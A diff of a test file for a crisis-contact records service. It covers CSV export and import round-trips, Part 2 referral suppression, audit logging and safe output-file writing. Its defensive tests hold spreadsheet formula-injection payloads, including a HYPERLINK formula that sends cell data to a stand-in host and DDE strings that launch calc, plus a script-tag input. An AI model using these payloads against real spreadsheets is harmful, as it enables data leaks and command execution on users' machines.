@@ -4,17 +4,18 @@
 // imports back as the same contacts, and the command line itself.
 import { execFile } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, linkSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parseProgramFile, type ProgramConfig } from '../../src/config.js';
 import { openDatabase } from '../../src/db/client.js';
+import { PART2_NOTICE } from '../../src/domain/contact-csv.js';
 import { parseCsv } from '../../src/domain/csv.js';
-import { logContact, notesContext } from '../../src/services/contacts.js';
+import { logContact, openNotes } from '../../src/services/contacts.js';
 import { createKeyring } from '../../src/services/crypto.js';
-import { contactExportCsv, exportContacts } from '../../src/services/csv-export.js';
+import { contactExportCsv, contactExportJson, exportContacts } from '../../src/services/csv-export.js';
 import { importContacts, type TImportResult } from '../../src/services/csv-import.js';
 import { syncPrograms, type Directory } from '../../src/services/directory.js';
 import { openMigratedTestDatabase } from '../support/postgres.js';
@@ -43,15 +44,39 @@ programs:
     startDate: 2024-01-01
     clientCodePrefix: DOV
     slack: { teamId: T0PAC }
+  - id: sheets
+    name: Keys a spreadsheet would read as formulas
+    timezone: America/New_York
+    startDate: 2024-01-01
+    clientCodePrefix: SHT
+    slack: { teamId: T0SHT }
+    roster:
+      - { slack: U0SHT1, roles: [clinician] }
+    categories:
+      sources: [-walk_in, other]
+      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
+  - id: sheets_copy
+    name: The same keys, empty
+    timezone: America/New_York
+    startDate: 2024-01-01
+    clientCodePrefix: SHT
+    slack: { teamId: T0SHTC }
+    categories:
+      sources: [-walk_in, other]
+      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
 `;
 const programs = parseProgramFile(PROGRAMS_YAML, 'test.yml');
 const wilmington = programs.find((p) => p.id === 'wilmington')!;
 const copy = programs.find((p) => p.id === 'copy')!;
 const pacific = programs.find((p) => p.id === 'pacific')!;
+const sheets = programs.find((p) => p.id === 'sheets')!;
+const sheetsCopy = programs.find((p) => p.id === 'sheets_copy')!;
 const KEY = randomBytes(32);
 const keyring = createKeyring(KEY);
 const NOW = new Date('2025-01-15T12:00:00Z');
 const NOTES = 'CANARY-51c0 said "not today", then\nleft with her sister';
+/** Who runs the service-level exports here: no roster member, an operating-system account. */
+const ACTOR = { memberId: null, named: null, osUser: 'operator', host: 'test-host' };
 
 const HEADER = 'client_code,contact_date,source,services,referrals,disposition,sex,age_band,follow_up_date,notes';
 /** Five contacts, three clients; PIC-0002 is first seen in the second row but its earliest contact is the fourth. */
@@ -68,6 +93,24 @@ let env: Awaited<ReturnType<typeof openMigratedTestDatabase>>;
 let directory: Directory;
 const deps = () => ({ db: env.db, prisma: env.db.prisma, keyring, directory });
 const run = (program: ProgramConfig, csv: string, now = NOW) => importContacts(deps(), { program, csv, now });
+
+/** A contact as the form hands it to logContact: a new client, nothing optional filled in. */
+function contactInput(over: Partial<Parameters<typeof logContact>[1]['input']>): Parameters<typeof logContact>[1]['input'] {
+  return {
+    client: { kind: 'new', sex: 'female', ageBand: '25-59' },
+    occurredAt: new Date('2024-09-01T14:00:00Z'),
+    source: 'call_for_service',
+    services: [],
+    referrals: [],
+    disposition: 'resolved_on_scene',
+    incidentRef: null,
+    minutesOnScene: null,
+    followUpDate: null,
+    followUpAssignee: null,
+    notes: null,
+    ...over,
+  };
+}
 
 function ok(r: TImportResult) {
   if (!r.ok) throw new Error(`import failed: ${JSON.stringify(r.errors)}`);
@@ -113,7 +156,7 @@ describe('import', () => {
     expect(contacts[0]).toMatchObject({ services: ['crisis_services', 'de_escalation'], referrals: ['mental_health_treatment'], followUpWanted: true });
     expect(contacts[1]).toMatchObject({ services: [], referrals: [], followUpWanted: false, notesCiphertext: null });
     expect(contacts[0]!.notesCiphertext).not.toContain('CANARY');
-    expect(keyring.decrypt(contacts[0]!.notesCiphertext!, notesContext('wilmington'))).toBe(NOTES);
+    expect(openNotes(keyring, { programId: 'wilmington', contactId: contacts[0]!.id }, contacts[0]!.notesCiphertext!)).toBe(NOTES);
     expect(contacts[0]!.notesKeyId).toBe(keyring.currentKeyId);
 
     const [followUp] = await env.db.prisma.followUp.findMany();
@@ -235,8 +278,8 @@ describe('import', () => {
     );
     const contacts = await env.db.prisma.contact.findMany({ where: { programId: 'pacific' }, orderBy: { number: 'asc' } });
     expect(contacts.map((c) => c.occurredAt.toISOString())).toEqual(['2024-10-01T19:00:00.000Z', '2024-09-30T19:00:00.000Z']);
-    const q3 = await exportContacts(deps(), { program: pacific, from: '2024-07-01', to: '2024-09-30', includeNotes: false });
-    const q4 = await exportContacts(deps(), { program: pacific, from: '2024-10-01', to: '2024-12-31', includeNotes: false });
+    const q3 = await exportContacts(deps(), { program: pacific, from: '2024-07-01', to: '2024-09-30', includeNotes: false, actor: ACTOR });
+    const q4 = await exportContacts(deps(), { program: pacific, from: '2024-10-01', to: '2024-12-31', includeNotes: false, actor: ACTOR });
     expect(q3.rows.map((r) => r[1])).toEqual(['DOV-0002']);
     expect(q4.rows.map((r) => r[1])).toEqual(['DOV-0001']);
     expect(q4.rows[0]![2]).toBe('2024-10-01T12:00-07:00');
@@ -248,19 +291,7 @@ describe('import', () => {
       program: wilmington,
       author: clinician,
       idempotencyKey: 'view-1',
-      input: {
-        client: { kind: 'new', sex: 'female', ageBand: '25-59' },
-        occurredAt: new Date('2024-09-01T14:00:00Z'),
-        source: 'call_for_service',
-        services: [],
-        referrals: [],
-        disposition: 'resolved_on_scene',
-        incidentRef: null,
-        minutesOnScene: null,
-        followUpDate: null,
-        followUpAssignee: null,
-        notes: null,
-      },
+      input: contactInput({}),
     });
     expect([logged.clientCode, logged.contactNumber]).toEqual(['PIC-0001', 1]);
     ok(await run(wilmington, [HEADER, 'PIC-0001,2024-06-01,other,,,other,male,0-12,,', 'PIC-0900,2024-06-02,other,,,other,male,0-12,,'].join('\n')));
@@ -274,7 +305,7 @@ describe('import', () => {
 describe('export', () => {
   it('imports into an empty program as the same contacts, notes and follow-ups included', async () => {
     ok(await run(wilmington, GOOD));
-    const all = { from: '2024-03-01', to: '2024-12-31', includeNotes: true };
+    const all = { from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
     const original = contactExportCsv(await exportContacts(deps(), { program: wilmington, ...all }));
     const parsed = parseCsv(original);
     expect(parsed.ok && parsed.records.length).toBe(6);
@@ -289,7 +320,7 @@ describe('export', () => {
       (await env.db.prisma.contact.findMany({ where: { programId }, orderBy: { number: 'asc' }, include: { client: true, followUps: true } })).map((c) => ({
         ...Object.fromEntries(fields.map((f) => [f, c[f]])),
         client: [c.client.code, c.client.sex, c.client.ageBand, c.client.firstContactAt.toISOString()],
-        notes: c.notesCiphertext && keyring.decrypt(c.notesCiphertext, notesContext(programId)),
+        notes: c.notesCiphertext && openNotes(keyring, { programId, contactId: c.id }, c.notesCiphertext),
         followUps: c.followUps.map((f) => [f.dueAt.toISOString(), f.status]),
       }));
     expect(await view('copy')).toEqual(await view('wilmington'));
@@ -316,7 +347,7 @@ describe('export', () => {
         notes: null,
       },
     });
-    const csv = contactExportCsv(await exportContacts(deps(), { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true }));
+    const csv = contactExportCsv(await exportContacts(deps(), { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR }));
     expect(csv).toContain(',CAD-1,12,');
     const again = ok(await run(wilmington, csv));
     expect([again.contactsCreated, again.contactsAlreadyImported]).toEqual([0, 6]);
@@ -325,11 +356,11 @@ describe('export', () => {
   it('leaves notes out unless asked, and audits an export with notes as such', async () => {
     ok(await run(wilmington, GOOD));
     const range = { from: '2024-07-01', to: '2024-07-31' };
-    const plain = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: false });
+    const plain = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: false, actor: ACTOR });
     expect(plain.columns).not.toContain('notes');
     expect(plain.rows).toHaveLength(2);
     expect(JSON.stringify(plain)).not.toContain('CANARY');
-    const withNotes = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: true });
+    const withNotes = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: true, actor: ACTOR });
     expect(withNotes.columns.at(-1)).toBe('notes');
     expect(withNotes.rows[0]!.at(-1)).toBe(NOTES);
     const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
@@ -337,6 +368,118 @@ describe('export', () => {
       ['contact.export', 'wilmington', null],
       ['contact.export_notes', 'wilmington', null],
     ]);
+  });
+});
+
+describe('42 CFR Part 2 in the export', () => {
+  const PART2_ROWS = [
+    HEADER,
+    'PIC-0001,2024-07-01,call_for_service,,addiction_treatment;social_services,resolved_on_scene,female,25-59,,',
+    'PIC-0002,2024-07-02,call_for_service,,addiction_treatment,referral_only,male,18-24,,',
+    'PIC-0003,2024-07-03,call_for_service,,,referral_only,male,18-24,,',
+  ].join('\n');
+  const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
+
+  it('leaves Part 2 referrals out as if never chosen, unless asked; then the 2.32 notice heads the file', async () => {
+    ok(await run(wilmington, PART2_ROWS));
+    const plain = await exportContacts(deps(), { program: wilmington, ...range });
+    const text = contactExportCsv(plain);
+    expect(text).not.toMatch(/addiction|part 2/i);
+    expect(text.split('\r\n')[0]).toMatch(/^contact_number,/);
+    // The contact with only a Part 2 referral looks like the one with none: nothing to infer from.
+    const referrals = plain.columns.indexOf('referrals');
+    expect(plain.rows.map((r) => r[referrals])).toEqual(['social_services', '', '']);
+    expect(plain.notice).toBeNull();
+
+    const part2 = await exportContacts(deps(), { program: wilmington, ...range, includePart2: true });
+    const withPart2 = contactExportCsv(part2);
+    expect(part2.rows.map((r) => r[referrals])).toEqual(['addiction_treatment;social_services', 'addiction_treatment', '']);
+    expect(withPart2.split('\r\n')[0]).toBe('# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records.');
+    expect(JSON.parse(contactExportJson(part2))).toMatchObject({ notice: PART2_NOTICE, contacts: [{ referrals: 'addiction_treatment;social_services' }, {}, {}] });
+    expect(Array.isArray(JSON.parse(contactExportJson(plain)))).toBe(true);
+
+    const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
+    expect(audit.map((a) => [a.action, a.count, a.details])).toEqual([
+      ['contact.export', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: false }],
+      ['contact.export_part2', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: true }],
+    ]);
+  });
+
+  it('imports back with the notice line skipped: the same contacts in an empty program, nothing new in its own', async () => {
+    ok(await run(wilmington, PART2_ROWS));
+    const all = { ...range, includePart2: true, includeNotes: true };
+    const original = contactExportCsv(await exportContacts(deps(), { program: wilmington, ...all }));
+    expect(original.startsWith('# NOTICE:')).toBe(true);
+    expect(ok(await run(copy, original))).toMatchObject({ contactsCreated: 3, clientsCreated: 3 });
+    expect(contactExportCsv(await exportContacts(deps(), { program: copy, ...all }))).toBe(original);
+    expect(ok(await run(wilmington, original))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
+    // A spreadsheet that saved the notice row padded with empty cells is read the same way.
+    const padded = original.replace(/^(.*)\r\n/, (_, line: string) => `${line}${','.repeat(12)}\r\n`);
+    expect(ok(await run(wilmington, padded))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
+  });
+});
+
+describe('formula-like cells in the export', () => {
+  // Every OWASP trigger, a note that truly begins with a quote, and quotes and commas inside.
+  const NOTES = [
+    '=HYPERLINK("https://x.example/?"&B2,"click")',
+    '+1+1',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1, then left',
+    "'=1+1 (typed with the quote)",
+    "''-2",
+    "'twas a quiet night",
+    'plain note',
+  ];
+
+  it('come out as text and import back as the original text: notes, incident refs and keys', async () => {
+    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
+    for (const [i, notes] of NOTES.entries()) {
+      await logContact(deps(), {
+        program: sheets,
+        author,
+        idempotencyKey: `view-${i}`,
+        input: contactInput({
+          occurredAt: new Date(Date.UTC(2024, 6, 1 + i, 15)),
+          source: i % 2 ? '-walk_in' : 'other',
+          services: i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'],
+          incidentRef: `CAD-2024/${i}.#${i}`,
+          minutesOnScene: i,
+          notes,
+        }),
+      });
+    }
+    const all = { from: '2024-01-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
+    const original = contactExportCsv(await exportContacts(deps(), { program: sheets, ...all }));
+    expect(original).toContain(`"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`);
+    expect(original).toContain(`"'''-2"`);
+    expect(original).toContain(`,"'-walk_in",`);
+    const parsed = parseCsv(original);
+    if (!parsed.ok) throw new Error('export is not CSV');
+    const live = parsed.records.flatMap((r) => r.fields).filter((f) => /^[=+\-@\t\r]/.test(f));
+    expect(live).toEqual([]);
+
+    expect(ok(await run(sheetsCopy, original))).toMatchObject({ contactsCreated: NOTES.length });
+    expect(contactExportCsv(await exportContacts(deps(), { program: sheetsCopy, ...all }))).toBe(original);
+    const stored = await env.db.prisma.contact.findMany({ where: { programId: 'sheets_copy' }, orderBy: { number: 'asc' } });
+    expect(stored.map((c) => openNotes(keyring, { programId: 'sheets_copy', contactId: c.id }, c.notesCiphertext!))).toEqual(NOTES);
+    expect(stored.map((c) => [c.source, c.services, c.incidentRef])).toEqual(NOTES.map((_, i) => [i % 2 ? '-walk_in' : 'other', i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'], `CAD-2024/${i}.#${i}`]));
+  });
+
+  it('drop a program’s own Part 2 services too, unless asked', async () => {
+    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
+    await logContact(deps(), {
+      program: sheets,
+      author,
+      idempotencyKey: 'view-sud',
+      input: contactInput({ occurredAt: new Date('2024-07-01T15:00:00Z'), source: 'other', services: ['sud_counselling', '+extra'] }),
+    });
+    const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
+    const services = (e: { columns: string[]; rows: string[][] }) => e.rows.map((r) => r[e.columns.indexOf('services')]);
+    expect(services(await exportContacts(deps(), { program: sheets, ...range }))).toEqual(['+extra']);
+    expect(services(await exportContacts(deps(), { program: sheets, ...range, includePart2: true }))).toEqual(['sud_counselling;+extra']);
   });
 });
 
@@ -351,7 +494,7 @@ describe('on the embedded database', () => {
       const embedded = { db, prisma: db.prisma, keyring, directory: dir2 };
       expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({ contactsCreated: 5, clientsCreated: 3 });
       expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 5 });
-      const all = { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true };
+      const all = { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
       const there = contactExportCsv(await exportContacts(embedded, all));
       ok(await run(wilmington, GOOD));
       expect(contactExportCsv(await exportContacts(deps(), all))).toBe(there);
@@ -396,7 +539,7 @@ describe('the command line', () => {
     expect(r.code).toBe(0);
     expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, summary: { contactsCreated: 5, clientsCreated: 3 } });
     const contact = await env.db.prisma.contact.findFirstOrThrow({ where: { programId: 'wilmington', number: 1 } });
-    expect(keyring.decrypt(contact.notesCiphertext!, notesContext('wilmington'))).toBe(NOTES);
+    expect(openNotes(keyring, { programId: 'wilmington', contactId: contact.id }, contact.notesCiphertext!)).toBe(NOTES);
   });
 
   it('fails a bad file with exit code 1: errors in the JSON document, or on stderr', async () => {
@@ -422,4 +565,52 @@ describe('the command line', () => {
     const bad = await cli('export', '--program', 'wilmington', '--from', '2024-09-31', '--to', '2024-10-01');
     expect([bad.code, bad.stderr]).toEqual([2, 'carelog export: --from must be a date such as 2024-09-30\n']);
   });
+
+  it('writes --out only as a new private file, never through a link, and names who ran it', async () => {
+    ok(await run(wilmington, GOOD));
+    const exportTo = (...args: string[]) => cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30', ...args);
+    const exports = () => env.db.prisma.auditEvent.findMany({ where: { action: { startsWith: 'contact.export' } }, orderBy: { id: 'asc' } });
+    const me = { osUser: os.userInfo().username, host: os.hostname() };
+
+    // A new file: 0600, audited with the roster member --actor names and the account that ran it.
+    const file = path.join(dir, 'out.csv');
+    const made = await exportTo('--out', file, '--actor', 'U0CLIN1');
+    expect([made.code, made.stderr]).toEqual([0, `exported 5 contact(s) to ${file}\n`]);
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect((await exports()).map((a) => [a.action, a.actorId, a.details])).toEqual([
+      ['contact.export', directory.member('wilmington', 'slack', 'U0CLIN1')!.memberId, { ...me, actor: 'U0CLIN1', notes: false, part2: false }],
+    ]);
+
+    // An existing file, or a link (even with --force): one line saying what to do, exit 1, nothing written.
+    writeFileSync(path.join(dir, 'target.csv'), 'keep');
+    symlinkSync(path.join(dir, 'target.csv'), path.join(dir, 'link.csv'));
+    const exists = await exportTo('--out', file);
+    expect([exists.code, exists.stdout, exists.stderr]).toEqual([1, '', `carelog export: ${file} already exists: name a new file, or add --force to replace it\n`]);
+    const viaLink = await exportTo('--out', path.join(dir, 'link.csv'), '--force');
+    expect([viaLink.code, viaLink.stderr]).toEqual([1, `carelog export: ${path.join(dir, 'link.csv')} is a symbolic link: name the file itself (carelog never writes through a link)\n`]);
+    expect(readFileSync(path.join(dir, 'target.csv'), 'utf8')).toBe('keep');
+    expect(lstatSync(path.join(dir, 'link.csv')).isSymbolicLink()).toBe(true);
+    const badActor = await exportTo('--out', path.join(dir, 'never.csv'), '--actor', '<script>');
+    expect([badActor.code, badActor.stderr.split('\n').length]).toEqual([1, 2]);
+    expect(badActor.stderr).toMatch(/^carelog export: --actor must name who runs the export/);
+    expect(readdirSync(dir)).not.toContain('never.csv');
+    expect(await exports()).toHaveLength(1);
+
+    // --force replaces a file (mode 0644, with a second link to it) instead of writing into it.
+    const old = path.join(dir, 'old.csv');
+    writeFileSync(old, 'old');
+    chmodSync(old, 0o644);
+    linkSync(old, path.join(dir, 'old-link.csv'));
+    const forced = await exportTo('--out', old, '--force', '--include-part2');
+    expect(forced.code).toBe(0);
+    expect(statSync(old).mode & 0o777).toBe(0o600);
+    expect(readFileSync(old, 'utf8')).toMatch(/^# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records\.\r\ncontact_number,/);
+    expect(readFileSync(path.join(dir, 'old-link.csv'), 'utf8')).toBe('old');
+    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
+    expect((await exports()).at(-1)).toMatchObject({ action: 'contact.export_part2', actorId: null, details: { ...me, actor: null, part2: true } });
+
+    // The file with its notice imports back.
+    const back = await cli('import', '--program', 'copy', '--file', old, '--json');
+    expect([back.code, JSON.parse(back.stdout)]).toMatchObject([0, { ok: true, summary: { contactsCreated: 5 } }]);
+  }, 120_000);
 });
